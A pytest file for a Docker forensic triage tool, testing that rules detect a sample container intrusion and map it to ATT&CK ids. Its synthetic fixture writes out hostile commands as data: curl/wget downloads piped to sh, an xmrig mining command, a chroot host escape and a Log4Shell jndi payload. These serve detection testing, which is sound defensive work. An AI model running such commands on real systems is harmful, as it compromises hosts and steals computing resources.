"""Triage findings: the overlay2 sample's intrusion is found with the right paths and ATT&CK
ids, its benign containers stay below high, and every rule family fires at least once —
on the sample or on a small synthetic snapshot built from :func:`analyzer.model.schema.frame`.

The sample recipe (``samples/make_samples.sh``): ``priv`` (--privileged, created),
``allcaps`` (cap-add ALL, pid host, seccomp unconfined, restart always), ``hostmount``
(``/:/host:ro`` + a docker socket bind), ``intruder`` (``/tmp/.x/miner``, ``/etc/passwd``
appended, ``/root/.ssh/authorized_keys``, ``rm /etc/group``, a wget line in its log).
"""

from __future__ import annotations

import io
import json
from typing import Any

import pandas as pd
import pytest

from analyzer.analyses.triage import RULES, load_rules, run_rules
from analyzer.analyses.triage.engine import SEVERITIES, severity_rank
from analyzer.model import schema
from analyzer.model.snapshot import Snapshot
from tests.conftest import SAMPLES, sample_path, sample_snapshot

BENIGN = ("web-1", "exited-0", "exited-1", "created-only", "net-user", "vol-user", "paused",
          "local-log", "web-gz")


@pytest.fixture(scope="module")
def snap():  # type: ignore[no-untyped-def]
    return sample_snapshot("overlay2")


@pytest.fixture(scope="module")
def found(snap):  # type: ignore[no-untyped-def]
    errors: list[str] = []
    out = run_rules(snap, errors=errors)
    assert errors == []
    return out


def _on(found, name: str) -> list:  # type: ignore[no-untyped-def]
    return [f for f in found if f.object.get("type") == "container" and f.object["name"] == name]


def _has(found, name: str, rule: str, path: str | None = None,  # type: ignore[no-untyped-def]
         attack: str | None = None) -> Any:
    for f in _on(found, name):
        if f.rule != rule:
            continue
        if path is not None and f.evidence.get("path") != path:
            continue
        if attack is not None and attack not in f.attack:
            continue
        return f
    raise AssertionError(f"{rule} {path} {attack} not found on {name}: "
                         f"{[(f.rule, f.evidence.get('path')) for f in _on(found, name)]}")


def test_catalogue_size_and_shape(found) -> None:  # type: ignore[no-untyped-def]
    rules = load_rules()
    assert len(rules) >= 25
    assert len({r.family for r in rules.values()}) >= 6
    for f in found:
        assert f.severity in SEVERITIES
        assert f.object["type"] in ("container", "image", "volume", "layer", "snapshot")
        assert f.title and f.explanation and isinstance(f.evidence, dict)
        json.dumps(f.to_dict())
    ranks = [severity_rank(f.severity) for f in found]
    assert ranks == sorted(ranks, reverse=True)


def test_benign_containers_stay_below_high(found) -> None:  # type: ignore[no-untyped-def]
    for name in BENIGN:
        bad = [(f.rule, f.severity) for f in _on(found, name)
               if severity_rank(f.severity) >= severity_rank("high")]
        assert bad == [], name


def test_intrusion_is_reported_with_paths_and_attack_ids(found) -> None:  # type: ignore[no-untyped-def]
    miner = _has(found, "intruder", "DRA-RW-001", "/tmp/.x/miner", "T1105")
    assert miner.severity == "critical"
    assert miner.evidence["member"].endswith("/diff/tmp/.x/miner")
    assert miner.evidence["mode"] == "0o755"
    _has(found, "intruder", "DRA-RW-002", "/tmp/.x", "T1564.001")
    _has(found, "intruder", "DRA-RW-012", "/tmp/.x/miner", "T1496")
    passwd = _has(found, "intruder", "DRA-RW-008", "/etc/passwd", "T1136.001")
    assert passwd.evidence["change"] == "modified"
    keys = _has(found, "intruder", "DRA-RW-006", "/root/.ssh/authorized_keys", "T1098.004")
    assert keys.evidence["change"] == "added"
    group = _has(found, "intruder", "DRA-RW-009", "/etc/group", "T1070.004")
    assert group.evidence["change"] == "deleted" and group.severity == "high"
    log = _has(found, "intruder", "DRA-LG-001", attack="T1105")
    assert "203.0.113.7" in log.evidence["ips"]
    assert any("wget" in line["line"] for line in log.evidence["lines"])
    # /dev/shm is tmpfs: never in the data-root, never claimed
    assert not any("/dev/shm" in json.dumps(f.to_dict()) for f in _on(found, "intruder"))


def test_privilege_cases(found) -> None:  # type: ignore[no-untyped-def]
    assert _has(found, "priv", "DRA-RT-001", attack="T1611").severity == "high"
    caps = _has(found, "allcaps", "DRA-RT-007", attack="T1611")
    assert "ALL" in caps.evidence["matched"]
    _has(found, "allcaps", "DRA-RT-005")
    sec = _has(found, "allcaps", "DRA-RT-008", attack="T1562.001")
    assert "seccomp=unconfined" in sec.evidence["matched"]
    restart = _has(found, "allcaps", "DRA-RT-011")
    assert restart.evidence["value"] == "always"
    root = _has(found, "hostmount", "DRA-RT-002", "/host", "T1611")
    assert root.evidence["source"] == "/" and root.evidence["rw"] is False
    sock = _has(found, "hostmount", "DRA-RT-004", "/var/run/docker.sock", "T1610")
    assert sock.evidence["source"].endswith("docker.sock")
    # bind targets the daemon created in the RW layer are not "dropped files"
    assert not any(f.rule.startswith("DRA-RW") for f in _on(found, "hostmount"))


def test_min_severity_and_images(snap) -> None:  # type: ignore[no-untyped-def]
    high = run_rules(snap, min_severity="high")
    assert high and all(severity_rank(f.severity) >= 3 for f in high)
    allf = run_rules(snap)
    committed = [f for f in allf if f.rule == "DRA-SC-006"]
    assert [f.object["name"] for f in committed] == ["snap:exited-0"]
    built = {f.object["name"] for f in allf if f.rule == "DRA-SC-005"}
    assert {"app:legacy", "app:buildkit"} <= built and "base:1.0" not in built


def test_ioc_file(snap, tmp_path) -> None:  # type: ignore[no-untyped-def]
    ioc = tmp_path / "ioc.csv"
    ioc.write_text("type,value,note\nfilename,miner,dropped\npath,/root/.ssh/*,keys\n"
                   "ip,203.0.113.7,c2\nimage,pocosow/centos,graboid\n"
                   "md5,d41d8cd98f00b204e9800998ecf8427e,empty\n")
    notes: list[str] = []
    found = run_rules(snap, ioc=str(ioc), notes=notes)
    iocs = [f for f in found if f.rule.startswith("DRA-IOC")]
    assert {(f.rule, f.object["name"], f.evidence.get("path")) for f in iocs} >= {
        ("DRA-IOC-FILENAME", "intruder", "/tmp/.x/miner"),
        ("DRA-IOC-PATH", "intruder", "/root/.ssh/authorized_keys")}
    assert any(f.rule == "DRA-IOC-IP" and f.object["name"] == "intruder" for f in iocs)
    assert not any(f.rule == "DRA-IOC-IMAGE" for f in iocs)
    assert any("md5" in n for n in notes)


def test_yara_scans_rw_layers(snap, tmp_path) -> None:  # type: ignore[no-untyped-def]
    pytest.importorskip("yara")
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "loop.yar").write_text('rule busy_loop { meta: severity = "critical" attack = '
                                    '"T1496" strings: $a = "while :; do :; done" condition: $a }')
    found = run_rules(snap, yara_dir=str(rules), evidence=sample_path("overlay2"),
                      only=["DRA-NONE"])
    hits = [f for f in found if f.rule == "DRA-YARA-001"]
    assert [(f.object["name"], f.evidence["path"], f.severity, f.attack) for f in hits] == [
        ("intruder", "/tmp/.x/miner", "critical", ["T1496"])]


def test_cli_findings_json(snap) -> None:  # type: ignore[no-untyped-def]
    from analyzer.cli.main import main

    out, err = io.StringIO(), io.StringIO()
    assert main(["findings", sample_path("overlay2"), "--json", "--min-severity", "high", "-q"],
                out=out, err=err) == 0
    doc = json.loads(out.getvalue())
    assert doc["findings"] and doc["snapshot"]["evidence_sha256"]
    out = io.StringIO()
    assert main(["findings", sample_path("overlay2"), "-q"], out=out, err=err) == 0
    lines = out.getvalue().splitlines()
    assert lines[0].startswith("SEVERITY") and lines[1].startswith("CRITICAL")


# -- a small synthetic snapshot on which the remaining rule families fire ----------------

CID = "c" * 64
MID = "m" * 64
IMG = "sha256:" + "1" * 64
CHAIN = "sha256:" + "2" * 64
T0 = pd.Timestamp("2024-03-15T02:00:00Z")


def _file(path: str, kind: str = "file", mode: int = 0o644, size: int = 10, **kw: Any
          ) -> dict[str, Any]:
    return {"path": path, "kind": kind, "mode": mode, "size": size if kind == "file" else 0,
            "uid": 0, "gid": 0, "mtime": kw.pop("mtime", T0 + pd.Timedelta(minutes=5)),
            "whiteout": kw.pop("whiteout", False), "opaque": False, **kw}


def synthetic() -> Snapshot:
    """One hostile container on one image, a volume with a web shell, and hostile logs."""
    cmd = ["sh", "-c", "curl -s http://198.51.100.9/x.sh | sh; chroot /host xmrig "
           "--donate-level 1 -o stratum+tcp://pool.supportxmr.com:3333"]
    hostconfig = {"Privileged": True, "Devices": [{"PathOnHost": "/dev/sda",
                                                   "PathInContainer": "/dev/sda"}],
                  "LogConfig": {"Type": "none"}, "RestartPolicy": {"Name": "unless-stopped"},
                  "SecurityOpt": ["apparmor=unconfined"], "NetworkMode": "host",
                  "CapAdd": ["SYS_PTRACE"]}
    config = {"ID": CID, "Path": cmd[0], "Args": cmd[1:], "Created": "2024-03-15T02:00:00Z",
              "State": {"StartedAt": "2024-03-15T02:00:01Z"},
              "Config": {"Env": ["AWS_SECRET_ACCESS_KEY=abcdEFGHijklMNOPqrstUVWXyz0123456789abcd",
                                 "DB_PASSWORD=changeme", "PATH=/bin"],
                         "Labels": {"api.token": "ghp_" + "a" * 36}, "Image": "ohldm/nginx"}}
    image_cfg = {"config": {"Env": ["PATH=/bin"], "Entrypoint": [
        "./xmrig", "--url=stratum+tcp://pool.supportxmr.com:5555"]}, "rootfs": {"diff_ids": []},
                 "history": []}
    tables: dict[str, pd.DataFrame] = {name: schema.frame(name) for name in schema.TABLES}
    tables["containers"] = schema.frame("containers", [{
        "container_id": CID, "name": "evil", "image_ref": "ohldm/nginx", "image_id": IMG,
        "created_at": T0, "started_at": T0 + pd.Timedelta(seconds=1), "status": "running",
        "privileged": True, "network_mode": "host", "pid_mode": "", "ipc_mode": "private",
        "cap_add_json": '["SYS_PTRACE"]', "restart_policy": "unless-stopped", "restart_count": 3,
        "log_driver": "none", "path": cmd[0], "args_json": json.dumps(cmd[1:]),
        "env_json": json.dumps(config["Config"]["Env"]), "mount_id": MID,
        "config_path": f"containers/{CID}/config.v2.json", "config_json": json.dumps(config),
        "hostconfig_json": json.dumps(hostconfig)}])
    tables["container_mounts"] = schema.frame("container_mounts", [
        {"container_id": CID, "destination": "/var/www/html", "type": "volume",
         "source": "/var/lib/docker/volumes/www/_data", "name": "www", "rw": True},
        {"container_id": CID, "destination": "/hostetc", "type": "bind", "source": "/etc",
         "rw": True}])
    tables["images"] = schema.frame("images", [{
        "image_id": IMG, "valid": True, "tagged": True, "top_chain_id": CHAIN,
        "config_json": json.dumps(image_cfg), "config_path": "image/overlay2/imagedb/content/x"}])
    tables["image_tags"] = schema.frame("image_tags", [{
        "image_id": IMG, "repository": "ohldm/nginx", "tag": "latest",
        "reference": "ohldm/nginx:latest", "image_present": True}])
    tables["image_history"] = schema.frame("image_history", [
        {"image_id": IMG, "step": 0, "created_by": "/bin/sh -c wget -O- http://198.51.100.9/i.sh"
         " | sh", "empty_layer": False},
        {"image_id": IMG, "step": 1, "created_by": "ARG GITHUB_TOKEN=ghp_" + "b" * 36,
         "empty_layer": True}])
    tables["layers"] = schema.frame("layers", [{"chain_id": CHAIN, "diff_id": CHAIN,
                                                "cache_id": "L" * 64}])
    lower, rw = "overlay2/" + "L" * 64 + "/diff", f"overlay2/{MID}/diff"
    tables["layer_dirs"] = schema.frame("layer_dirs", [
        {"dir_id": "L" * 64, "driver": "overlay2", "path": "overlay2/" + "L" * 64,
         "content_path": lower, "role": "image-layer", "owner": CHAIN},
        {"dir_id": MID, "driver": "overlay2", "path": f"overlay2/{MID}", "content_path": rw,
         "role": "container-rw", "owner": CID}])
    files = [_file(lower, "dir", 0o755), _file(lower + "/usr", "dir", 0o755),
             _file(lower + "/usr/bin", "dir", 0o755), _file(lower + "/usr/bin/ls", mode=0o755),
             _file(lower + "/var", "dir", 0o755), _file(lower + "/var/log", "dir", 0o755),
             _file(lower + "/var/log/auth.log"), _file(lower + "/root", "dir", 0o700),
             _file(lower + "/root/.bashrc"),
             _file(rw, "dir", 0o755), _file(rw + "/usr", "dir", 0o755),
             _file(rw + "/usr/bin", "dir", 0o755),
             _file(rw + "/usr/bin/ls", mode=0o755, size=99),
             _file(rw + "/usr/bin/kubectl", mode=0o755, size=99),
             _file(rw + "/usr/local/bin/sh2", mode=0o4755, size=99),
             _file(rw + "/etc/cron.d/evil"), _file(rw + "/etc/ld.so.preload"),
             _file(rw + "/root/.bashrc", size=99), _file(rw + "/root/.aws/credentials"),
             _file(rw + "/var/log/auth.log", "char", 0, whiteout=True),
             _file(rw + "/var/www/html/up.php"),
             _file(rw + "/opt/old.bin", mtime=pd.Timestamp("2001-01-01T00:00:00Z")),
             _file("volumes/www/_data", "dir", 0o755),
             _file("volumes/www/_data/shell.php"),
             _file("volumes/www/_data/.x/run", mode=0o755),
             _file("overlay2/" + "O" * 25 + "/diff/a"), _file("overlay2/" + "O" * 25 + "/diff/b")]
    tables["files"] = schema.frame("files", files)
    tables["layer_dirs"] = pd.concat([tables["layer_dirs"], schema.frame("layer_dirs", [{
        "dir_id": "O" * 25, "driver": "overlay2", "path": "overlay2/" + "O" * 25,
        "content_path": "overlay2/" + "O" * 25 + "/diff", "role": "orphan", "files": 2}])],
        ignore_index=True)
    tables["volumes"] = schema.frame("volumes", [{"name": "www", "driver": "local",
                                                  "created_at": T0, "dir_present": True}])
    tables["logs"] = schema.frame("logs", [
        {"container_id": CID, "seq": 0, "stream": "stdout", "time": T0, "time_ns": T0.value,
         "line": b"GET /?x=${jndi:ldap://198.51.100.9/a} 200\n", "partial": False,
         "source": f"containers/{CID}/{CID}-json.log"},
        {"container_id": CID, "seq": 1, "stream": "stdout", "time": T0, "time_ns": T0.value,
         "line": b"[2024-03-15 02:00:05] net use pool pool.supportxmr.com:3333\n",
         "partial": False, "source": f"containers/{CID}/{CID}-json.log"}])
    return Snapshot(tables, {"evidence_path": "synthetic", "root_prefix": "",
                             "driver": "overlay2"})


def test_synthetic_snapshot_fires_every_family() -> None:
    errors: list[str] = []
    found = run_rules(synthetic(), errors=errors)
    assert errors == []
    fired = {f.rule for f in found}
    families = {RULES[r].family for r in fired if r in RULES}
    assert families == {r.family for r in load_rules().values()}
    expected = {"DRA-RT-001", "DRA-RT-003", "DRA-RT-006", "DRA-RT-007", "DRA-RT-008",
                "DRA-RT-009", "DRA-RT-010", "DRA-RT-011", "DRA-RT-012", "DRA-SE-001",
                "DRA-SE-002", "DRA-SE-003", "DRA-SC-001", "DRA-SC-002", "DRA-SC-003",
                "DRA-SC-004", "DRA-SC-008", "DRA-RW-004", "DRA-RW-005", "DRA-RW-007",
                "DRA-RW-009", "DRA-RW-010", "DRA-RW-011", "DRA-RW-012", "DRA-RW-013",
                "DRA-RW-014", "DRA-VO-001", "DRA-VO-002", "DRA-VO-003", "DRA-LG-002",
                "DRA-LG-003", "DRA-ST-001"}
    assert expected <= fired, expected - fired
    by = {(f.rule, f.evidence.get("path")): f for f in found}
    assert by[("DRA-RW-007", "/etc/ld.so.preload")].attack == ["T1574.006"]
    assert by[("DRA-RW-005", "/etc/cron.d/evil")].attack == ["T1053.003"]
    assert by[("DRA-RW-009", "/var/log/auth.log")].severity == "high"
    assert by[("DRA-VO-001", "/shell.php")].attack == ["T1505.003"]
    assert by[("DRA-RT-001", None)].severity == "critical"  # privileged + escape command
    # secrets are never printed
    text = json.dumps([f.to_dict() for f in found])
    assert "abcdEFGH" not in text and "ghp_aaaa" not in text and "ghp_bbbb" not in text
    se = next(f for f in found if f.rule == "DRA-SE-001")
    assert se.evidence["matched"] == ["AWS_SECRET_ACCESS_KEY"]  # 'changeme' is a placeholder


@pytest.mark.parametrize("name", ["overlay2", "vfs"])
def test_rw_changes_equal_the_daemons(name: str) -> None:
    """The RW-layer diff the rules read equals GET /containers/{id}/changes (whiteouts,
    copy-ups, mount stubs; naive diff on vfs)."""
    from analyzer.analyses.triage.engine import Context
    from tests.conftest import SAMPLES, Truth

    truth = Truth(SAMPLES / name / "truth")
    ctx = Context(sample_snapshot(name))
    for c in ctx.containers:
        got = sorted((ch.path, ch.kind) for ch in ctx.changes(c.id))
        want = sorted((d["Path"], d["Kind"]) for d in truth.json(f"changes-{c.name}.json") or [])
        assert got == want, c.name


# --- the containerd image store ------------------------------------------------------------------

CONTAINERD_SAMPLES = [n for n in ("containerd", "containerd-system")
                      if (SAMPLES / n / "docker-root.tar.zst").is_file()]


def _serious(found, name: str) -> set[tuple[str, str, Any]]:  # type: ignore[no-untyped-def]
    return {(f.rule, f.severity, f.evidence.get("path")) for f in _on(found, name)
            if severity_rank(f.severity) >= severity_rank("high")}


@pytest.mark.parametrize("name", CONTAINERD_SAMPLES)
def test_containerd_intruder_matches_overlay2(  # type: ignore[no-untyped-def]
        name: str, found) -> None:
    """The same intrusion recipe on the containerd image store raises the same critical and
    high findings on ``intruder`` as on the overlay2 sample (RW layer = a snapshot)."""
    errors: list[str] = []
    c8d = run_rules(sample_snapshot(name), errors=errors)
    assert errors == []
    want = _serious(found, "intruder")
    assert want and _serious(c8d, "intruder") == want
    miner = _has(c8d, "intruder", "DRA-RW-001", "/tmp/.x/miner", "T1105")
    assert miner.severity == "critical"
    for benign in ("web-1", "exited-0"):
        assert not any(severity_rank(f.severity) >= severity_rank("high")
                       for f in _on(c8d, benign)), benign


@pytest.mark.parametrize("name", CONTAINERD_SAMPLES)
def test_containerd_yara_scans_snapshots(  # type: ignore[no-untyped-def]
        name: str, tmp_path) -> None:
    """--yara reads the RW snapshots wherever the containerd root is (inside the data-root, or
    a second evidence mounted as @containerd)."""
    pytest.importorskip("yara")
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "loop.yar").write_text('rule busy_loop { meta: severity = "critical" attack = '
                                    '"T1496" strings: $a = "while :; do :; done" condition: $a }')
    notes: list[str] = []
    found = run_rules(sample_snapshot(name), yara_dir=str(rules), evidence=sample_path(name),
                      only=["DRA-NONE"], notes=notes)
    hits = [f for f in found if f.rule == "DRA-YARA-001"]
    assert [(f.object["name"], f.evidence["path"], f.severity, f.attack) for f in hits] == [
        ("intruder", "/tmp/.x/miner", "critical", ["T1496"])]
    assert hits[0].evidence["member"].endswith("/fs/tmp/.x/miner")
    assert not any("WARNING" in n for n in notes), notes
